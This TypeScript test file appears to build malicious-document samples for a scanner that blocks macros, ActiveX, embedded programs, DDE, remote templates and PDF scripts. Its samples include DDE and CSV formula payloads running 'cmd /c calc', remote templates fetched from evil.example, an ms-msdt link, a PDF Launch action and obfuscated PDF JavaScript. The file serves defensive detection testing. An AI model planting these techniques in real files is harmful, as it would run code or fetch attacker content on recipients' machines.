import { deflateSync } from 'node:zlib'
import { makeCompound } from './made-ole.ts'
import {
  bookRel,
  docRel,
  embed,
  field,
  formula,
  makeBook,
  makeHwp,
  makeLetter,
  makeOldBook,
  makePackage,
  makePdfWith,
  packed,
  part,
  pdfObjects,
  pdfStream,
  relsPart,
  type Sample,
} from './made-papers.ts'

const exe = Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), Buffer.alloc(200), Buffer.from('PE\0\0', 'latin1')])
const dde = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
const override = (name: string, type: string) => `<Override PartName="/${name}" ContentType="${type}"/>`
const macroSheet = 'application/vnd.ms-excel.macrosheet+xml'
const activeX = 'application/vnd.ms-office.activeX+xml'
const attachedToPdf = (name: string, content: Buffer | string) =>
  makePdfWith(
    '',
    `<</Type/Filespec/F(${name})/EF<</F 5 0 R>>>>`,
    pdfStream('/Type/EmbeddedFile/Filter/FlateDecode', content),
  )
const unpacked = ((bytes: Buffer) => bytes) as typeof deflateSync
const hexed = (bytes: Buffer) => Buffer.from(`${deflateSync(bytes).toString('hex')}>`)
const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
const scripted = (name: string) => `/OpenAction<</S/${name}/JS(app.alert\\(1\\))>>`

/** Papers that act when they are opened, by the failure that refuses them. */
export const activePapers: Record<string, Sample[]> = {
  FILE_HAS_MACROS: [
    ['VBA in a Word document', 'a.docx', () => makeLetter([part('word/vbaProject.bin', 'x')])],
    [
      'VBA in a workbook under another name',
      'a.xlsx',
      () =>
        makeBook([part('xl/notes.bin', 'x')], {
          types: override('xl/notes.bin', 'application/vnd.ms-office.vbaProject'),
        }),
    ],
    [
      'VBA declared by relationship',
      'a.docx',
      () => makeLetter([relsPart('word/_rels/document.xml.rels', 'vbaProject', 'x.bin', false)]),
    ],
    ['an XLM macro sheet', 'a.xlsx', () => makeBook([part('xl/macrosheets/sheet1.xml')])],
    [
      'an XLM macro sheet among the worksheets',
      'a.xlsx',
      () => makeBook([part('xl/worksheets/sheet2.xml')], { types: override('xl/worksheets/sheet2.xml', macroSheet) }),
    ],
    ['a dialog sheet', 'a.xlsx', () => makeBook([part('xl/dialogsheets/sheet1.xml')])],
    [
      'macros in a workbook in a Word document',
      'a.docx',
      () => makeLetter([embed(makeBook([part('xl/vbaProject.bin', 'x')]), 'a.xlsx')]),
    ],
    [
      'macros in an old document in a Word document',
      'a.docx',
      () => makeLetter([embed(makeCompound([{ name: '_VBA_PROJECT', content: Buffer.from('x') }]))]),
    ],
    ['a macro sheet in an old workbook in a Word document', 'a.docx', () => makeLetter([embed(makeOldBook(1))])],
    ['a script in HWP', 'a.hwp', () => makeHwp([], { script: 'function OnDocument_Open() { Run("calc") }' })],
  ],
  FILE_HAS_ACTIVEX: [
    ['ActiveX in a Word document', 'a.docx', () => makeLetter([part('word/activeX/activeX1.xml')])],
    [
      'ActiveX in a workbook declared by content type',
      'a.xlsx',
      () => makeBook([part('xl/x1.xml')], { types: override('xl/x1.xml', activeX) }),
    ],
    [
      'ActiveX declared by relationship',
      'a.docx',
      () => makeLetter([relsPart('word/_rels/document.xml.rels', 'control', 'a.xml', false)]),
    ],
  ],
  FILE_HAS_PROGRAM: [
    ['a program stored as a part', 'a.docx', () => makeLetter([part('word/media/image1.png', exe)])],
    ['a packed program', 'a.docx', () => makeLetter([embed(makePackage('견적.exe', 'x'))])],
    ['a packed script', 'a.docx', () => makeLetter([embed(makePackage('invoice.pdf.js', 'x'))])],
    ['a packed program named as a document', 'a.docx', () => makeLetter([embed(makePackage('a.pdf', exe))])],
    [
      'a large packed program',
      'a.xlsx',
      () => makeBook([part('xl/embeddings/oleObject1.bin', makePackage('run.bat', Buffer.alloc(20_000, 65)))]),
    ],
    ['a batch file stored as a part', 'a.xlsx', () => makeBook([part('xl/embeddings/run.bat', 'calc')])],
    [
      'a packed program in HWP',
      'a.hwp',
      () =>
        makeHwp([
          { name: 'BIN0001.OLE', content: packed(Buffer.concat([Buffer.alloc(4), makePackage('a.exe', 'x')])) },
        ]),
    ],
    ['a program attached to a PDF', 'a.pdf', () => attachedToPdf('a.exe', 'x')],
    ['a program attached to a PDF as a text file', 'a.pdf', () => attachedToPdf('a.txt', exe)],
    ['a program name in UTF-16', 'a.pdf', () => makePdfWith('', '<</Type/Filespec/UF<FEFF0061002E006500780065>>>')],
  ],
  FILE_LINKS_PROGRAM: [
    [
      'DDE in a Word document',
      'a.docx',
      () => makeLetter([], { body: field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"') }),
    ],
    [
      'DDE split over several runs',
      'a.docx',
      () => makeLetter([], { body: field(' D', 'DEA', 'UTO c:\\\\cmd.exe x') }),
    ],
    ['DDE in a simple field', 'a.docx', () => makeLetter([], { body: '<w:fldSimple w:instr="DDE cmd x"/>' })],
    [
      'DDE in a header',
      'a.docx',
      () => makeLetter([part('word/header1.xml', `<w:hdr>${field('&#68;DE cmd x')}</w:hdr>`)]),
    ],
    ['DDE in a workbook', 'a.xlsx', () => makeBook([part('xl/externalLinks/externalLink1.xml', dde)])],
    ['DDE in a cell', 'a.xlsx', () => makeBook([], formula("cmd|'/c calc'!A0"))],
    ['DDE in a CSV file', 'a.csv', () => "품목,수량\r\n두부,=cmd|'/c calc'!A0\r\n"],
    ['a link to a program', 'a.docx', () => makeLetter([docRel('hyperlink', 'file:///C:/Windows/System32/cmd.exe')])],
    [
      'a link to a program on another machine',
      'a.docx',
      () => makeLetter([docRel('hyperlink', '\\\\10.0.0.1\\a\\setup.exe')]),
    ],
    ['a link that runs a script', 'a.xlsx', () => makeBook([bookRel('hyperlink', 'java&#115;cript:alert(1)')])],
    ['an ms-msdt link', 'a.docx', () => makeLetter([docRel('oleObject', 'ms-msdt:/id PCWDiagnostic')])],
    [
      'a linked workbook that is a program',
      'a.xlsx',
      () => makeBook([bookRel('externalLinkPath', 'file:///C:/a.xll')]),
    ],
  ],
  FILE_LOADS_REMOTE: [
    [
      'a remote template',
      'a.docx',
      () => makeLetter([relsPart('word/_rels/settings.xml.rels', 'attachedTemplate', 'https://evil.example/a.dotm')]),
    ],
    [
      'a template on another machine',
      'a.docx',
      () =>
        makeLetter([relsPart('word/_rels/settings.xml.rels', 'attachedTemplate', 'file:///\\\\10.0.0.1\\a\\b.dotm')]),
    ],
    ['a remote object', 'a.docx', () => makeLetter([docRel('oleObject', 'http://evil.example/a.rtf!')])],
    ['a remote frame', 'a.docx', () => makeLetter([docRel('frame', 'http&#x3a;//evil.example/a.html')])],
    [
      'a relationship in UTF-16',
      'a.docx',
      () => {
        const { content } = docRel('subDocument', 'https://evil.example/a.docx')
        return makeLetter([part('word/_rels/document.xml.rels', Buffer.from(`\ufeff${content as string}`, 'utf16le'))])
      },
    ],
  ],
  FILE_HAS_SCRIPT: [
    ['a script run on opening', 'a.pdf', () => makePdfWith(scripted('JavaScript'))],
    ['a script with an escaped name', 'a.pdf', () => makePdfWith(scripted('J#61vaS#63ript'))],
    ['a script in a separate object', 'a.pdf', () => makePdfWith('/OpenAction 4 0 R', script)],
    ['a script in an object stream', 'a.pdf', () => makePdfWith('/OpenAction 9 0 R', pdfObjects(script))],
    [
      'an object stream compressed twice',
      'a.pdf',
      () =>
        makePdfWith(
          '',
          pdfStream(
            '/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]',
            `9 0 ${script}`,
            hexed as typeof deflateSync,
          ),
        ),
    ],
    [
      'an uncompressed object stream',
      'a.pdf',
      () => makePdfWith('', pdfStream('/Type/ObjStm/N 1/First 4', `9 0 ${script}`, unpacked)),
    ],
    ['a script behind a button', 'a.pdf', () => makePdfWith('', `<</Type/Annot/Subtype/Widget/A${script}>>`)],
    [
      'an object hidden in a comment',
      'a.pdf',
      () => makePdfWith('/OpenAction 9 0 R', `null\n% 9 0 obj ${script} endobj`),
    ],
    [
      'an object hidden in a stream',
      'a.pdf',
      () => makePdfWith('', pdfStream('', `9 0 obj ${script} endobj`, unpacked)),
    ],
    [
      'a script in a form',
      'a.pdf',
      () =>
        makePdfWith(
          '/AcroForm<</XFA 4 0 R>>',
          pdfStream('/Filter/FlateDecode', '<template><script>x</script></template>'),
        ),
    ],
    ['PostScript in HWP', 'a.hwp', () => makeHwp([{ name: 'BIN0001.eps', content: packed(Buffer.from('%!PS')) }])],
  ],
  FILE_STARTS_PROGRAM: [
    ['a PDF that starts a program', 'a.pdf', () => makePdfWith('/OpenAction<</S/Launch/Win<</F(cmd)/P(/c calc)>>>>')],
    ['a program start in an object stream', 'a.pdf', () => makePdfWith('', pdfObjects('<</S/La#75nch/F(a.pdf)>>'))],
  ],
  FILE_LOCKED: [
    ['an encrypted PDF with unreadable objects', 'a.pdf', () => makePdfWith('/Encrypt 8 0 R', pdfObjects('<</A 1>>'))],
    ['an encrypted HWP', 'a.hwp', () => makeHwp([], { flags: 3 })],
  ],
  FILE_UNSAFE: [
    [
      'an oversized object stream',
      'a.pdf',
      () =>
        makePdfWith('', pdfStream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', Buffer.alloc(40 * 1024 * 1024, 32))),
    ],
    [
      'an object stream with an unusual filter',
      'a.pdf',
      () => makePdfWith('', pdfStream('/Type/ObjStm/N 1/First 4/Filter/LZWDecode', script)),
    ],
    [
      'relationships with XML entities',
      'a.docx',
      () => makeLetter([part('word/_rels/document.xml.rels', '<!DOCTYPE x [<!ENTITY a "http">]><Relationships/>')]),
    ],
  ],
}
